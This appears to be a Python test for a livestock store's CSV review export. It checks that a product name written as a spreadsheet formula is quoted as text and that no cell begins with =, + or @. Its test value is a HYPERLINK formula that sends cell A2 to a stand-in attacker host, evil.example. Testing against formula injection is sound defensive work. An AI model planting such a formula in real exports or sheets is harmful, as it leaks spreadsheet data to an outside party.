"""`livestock review --csv` on a real store: a product name that is a formula stays text."""

from __future__ import annotations

import csv
from pathlib import Path

from sqlalchemy import update
from typer.testing import CliRunner

from cli import app
from core.store.db import make_engine
from core.store.models import Product, table_of
from core.store.schema import create_schema
from tests.review_store import SESSION_ID, build_review_store

LINK = '=HYPERLINK("http://evil.example/?"&A2,"Open")'


def test_review_csv_writes_a_product_named_like_a_formula_as_text(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'review.db'}"
    engine = make_engine(url)
    create_schema(engine)
    build_review_store(engine)
    with engine.begin() as conn:
        products = table_of(Product)
        conn.execute(update(products).where(products.c.sku == "TRIPOD").values(name=LINK))
    engine.dispose()
    out = tmp_path / "out"

    result = CliRunner().invoke(app, ["review", "--session", SESSION_ID, "--csv", str(out),
                                      "--db", url])

    assert result.exit_code == 0, result.output
    with (out / "review_products.csv").open(encoding="utf-8", newline="") as handle:
        rows = {row["sku"]: row for row in csv.DictReader(handle)}
    assert rows["TRIPOD"]["name"] == "'" + LINK
    assert rows["TRIPOD"]["units"] == "30"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows.values()
                   for cell in row.values())
